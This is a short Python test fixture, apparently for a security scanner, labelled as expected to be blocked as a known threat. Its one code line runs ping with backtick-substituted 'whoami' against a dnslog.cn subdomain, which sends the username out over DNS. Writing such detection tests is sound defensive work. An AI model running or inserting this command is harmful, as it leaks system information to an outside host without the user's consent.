# expect: BLOCKED known_threat
import os
os.system("ping -c 1 `whoami`.abc123.dnslog.cn")
